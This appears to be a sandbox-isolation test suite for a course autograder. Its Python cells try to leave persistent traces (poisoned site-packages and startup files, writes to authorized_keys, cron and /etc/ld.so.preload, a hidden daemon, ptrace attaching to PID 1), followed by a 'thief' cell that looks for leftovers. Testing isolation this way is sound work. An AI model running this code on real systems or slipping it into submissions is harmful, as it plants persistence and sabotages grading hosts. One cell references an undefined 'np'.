# What would outlive a submission: the next one on the same runner (the thief, below) finds nothing of it, nor does the machine.

# %% 1.1 loses 1.2 1.4 | the right answers left in every place that a file can have
import os, site, sys, tempfile
import adcourse, matplotlib
answers = "def second(f, a, h):\n    return (f(a + h) - 2 * f(a) + f(a - h)) / h**2\nTOKEN = '{TOKEN}'\n"
home = os.path.expanduser("~")
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/run/user/0", "/", "/usr/lib", home, "/box", "/box/tmp", "/etc", "/proc/self", "/sys", "/mnt", os.getcwd(),
               home + "/.local/lib", tempfile.gettempdir(), sys.prefix, sys.base_prefix, os.path.dirname(adcourse.__file__)):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "{TOKEN}.py"), "w") as file:
            file.write(answers)
    except OSError:
        pass
print("tried")

# %% 1.1 loses 1.2 1.4 | site-packages, sitecustomize, .pth files and compiled caches poisoned
import glob, os, site, sys, sysconfig
import adcourse, IPython, matplotlib
poison = "TOKEN = '{TOKEN}'\n"
folders = {*site.getsitepackages(), sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"], site.getusersitepackages()}
targets = [os.path.join(folder, name) for folder in folders for name in ("sitecustomize.py", "usercustomize.py", "{TOKEN}.pth", "{TOKEN}.py")]
for module in (np, adcourse, IPython, matplotlib):
    targets += [module.__file__, *glob.glob(os.path.dirname(module.__file__) + "/__pycache__/*")[:5], os.path.dirname(module.__file__) + "/__pycache__/{TOKEN}.pyc"]
for path in targets:
    try:
        os.chmod(os.path.dirname(path), 0o777)
    except OSError:
        pass
    try:
        with open(path, "a") as file:
            file.write(poison)
        if not path.startswith(os.path.expanduser("~")):
            print("LOOT", path)
    except OSError:
        pass
print("tried")

# %% 1.1 loses 1.2 1.4 | profiles and start-up files of IPython, Jupyter, Matplotlib, Python, shells, cron
import os, subprocess
home = os.path.expanduser("~")
for path in (".ipython/profile_default/startup/00-{TOKEN}.py", ".ipython/profile_default/ipython_config.py", ".jupyter/jupyter_config.py", ".config/matplotlib/matplotlibrc",
             ".cache/matplotlib/{TOKEN}", ".pythonrc.py", ".bashrc", ".profile", ".ssh/authorized_keys", ".config/pip/pip.conf", ".config/autostart/{TOKEN}.desktop", ".netrc"):
    try:
        os.makedirs(os.path.dirname(os.path.join(home, path)), exist_ok=True)
        open(os.path.join(home, path), "a").write("# {TOKEN}\n")
    except OSError:
        pass
for path in ("/etc/cron.d/{TOKEN}", "/var/spool/cron/crontabs/root", "/etc/ld.so.preload", "/etc/profile.d/{TOKEN}.sh", "/etc/rc.local", "/usr/local/bin/python3", "/lib/{TOKEN}.so"):
    try:
        open(path, "a").write("# {TOKEN}\n")
        print("LOOT", path)
    except OSError:
        pass
for command in (["crontab", "-"], ["at", "now"], ["systemd-run", "true"]):
    try:
        subprocess.run(command, input=b"* * * * * touch {CANARY}.cron\n", capture_output=True, timeout=1)
    except Exception:
        pass
print("tried")

# %% 1.1 loses 1.2 1.4 | shared memory, semaphores, message queues, keys and memory files
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
key = 0x4ADC
segment = libc.shmget(key, 4096, 0o1666)
libc.shmat.restype = ctypes.c_void_p
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    ctypes.memmove(address, b"{TOKEN}", 10)
libc.semget(key, 1, 0o1666)
libc.msgget(key, 0o1666)
for keyring in (-1, -2, -3, -4, -5):
    libc.syscall(248, b"user", b"{TOKEN}", b"second = central difference", 27, keyring)  # add_key
libc.mq_open(b"/{TOKEN}", 0o102, 0o666, None)
from multiprocessing import shared_memory
try:
    shared_memory.SharedMemory(name="{TOKEN}", create=True, size=100).buf[:4] = b"2222"
except OSError:
    pass
os.write(os.memfd_create("{TOKEN}"), b"second")
print("tried")

# %% 1.1 loses 1.2 1.4 | a daemon that waits for the next submission
import ctypes
fork = ctypes.PyDLL(None).fork  # os.fork is refused politely, this is not
import os, socket, time
if fork() == 0:
    os.setsid()
    if fork() == 0:
        import ctypes, signal
        ctypes.CDLL(None).prctl(15, b"{TOKEN}")
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        server = socket.socket(socket.AF_UNIX)
        try:
            server.bind("\0{TOKEN}.answers")
            server.listen()
        except OSError:
            pass
        while True:
            time.sleep(1000)
    os._exit(0)
os.wait()

# %% 1.1 loses 1.2 1.4 | the memory of the server and of the session's parents rewritten
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for pid in {1, 2, os.getppid()} - {os.getpid(), 0}:
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH: it stops; never let it go on
        print("stopped", pid)
print("tried")

# %% 1.1 loses 1.2 1.4 | threads that change what the later cells define
import threading, time
space = globals()

def meddle():
    while True:
        for name in ("second", "complex_step"):
            if name in space:
                space[name] = lambda *args, **kwargs: __import__("adcourse").check
        time.sleep(0.001)

for _ in range(5):
    threading.Thread(target=meddle, daemon=True).start()

# %% 1.1 loses 1.2 1.4 | exit handlers, signals, finalisers and timers that fire later
import atexit, os, signal, weakref

class Last:
    def __del__(self):
        os.write(1, b"later")

last = Last()
atexit.register(lambda: os.write(1, b"later"))
weakref.finalize(last, lambda: None)
for number in (signal.SIGALRM, signal.SIGUSR1, signal.SIGCHLD, signal.SIGTERM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, lambda *args: None)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)

# %% 1.1 loses 1.2 1.4 | limits lowered to nothing, priorities, working folder, mask
import os, resource
try:
    os.nice(19)
except OSError:
    pass
os.umask(0o777)
os.chdir("/")
for name in ("RLIMIT_FSIZE", "RLIMIT_CORE"):
    try:
        resource.setrlimit(getattr(resource, name), (0, 0))
    except (ValueError, OSError):
        pass

# %% 1.1 loses 1.2 1.4 | limits lifted
import resource
for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CPU"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        if name in ("RLIMIT_NPROC", "RLIMIT_FSIZE"):
            print("LOOT", name)
    except (ValueError, OSError):
        pass
print("tried")

# %% 1.1 loses 1.2 1.4 | multiprocessing pools, process pools and asyncio loops never closed
import asyncio, multiprocessing, threading
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
pool = ThreadPoolExecutor(4)
pool.submit(lambda: threading.Event().wait())
loop = asyncio.new_event_loop()
threading.Thread(target=loop.run_forever, daemon=True).start()
try:
    multiprocessing.get_context("fork").Process(target=threading.Event().wait).start()
except OSError:
    pass

# %% 1.1 loses 1.2 1.4 | the thief: looks for what any other submission has left
import ctypes, glob, importlib, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/", "/usr/lib", os.path.expanduser("~"), "/box/tmp", os.getcwd()):
    for path in glob.glob(folder + "/*{TOKEN}*") + glob.glob(folder + "/.*{TOKEN}*"):
        print("LOOT", path)
try:
    importlib.import_module("{TOKEN}")
    print("LOOT module")
except ImportError:
    pass
if libc.shmget(0x4ADC, 0, 0) >= 0 or libc.semget(0x4ADC, 0, 0) >= 0 or libc.msgget(0x4ADC, 0) >= 0:
    print("LOOT segment")
for keyring in (-1, -2, -3, -4, -5):
    if libc.syscall(250, 10, keyring, b"user", b"{TOKEN}", 0) > 0:
        print("LOOT key", keyring)
if libc.mq_open(b"/{TOKEN}", 0) >= 0:
    print("LOOT queue")
from multiprocessing import shared_memory
try:
    shared_memory.SharedMemory(name="{TOKEN}")
    print("LOOT shared memory")
except OSError:
    pass
for name in ("\0{TOKEN}.answers", "\0{TOKEN}.here"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        print("LOOT socket")
    except OSError:
        pass
if any("{TOKEN}" in str(vars(module)) for name, module in list(__import__("sys").modules.items()) if name in ("builtins", "os", "numpy")):
    print("LO" + "OT memory")
print("tried")
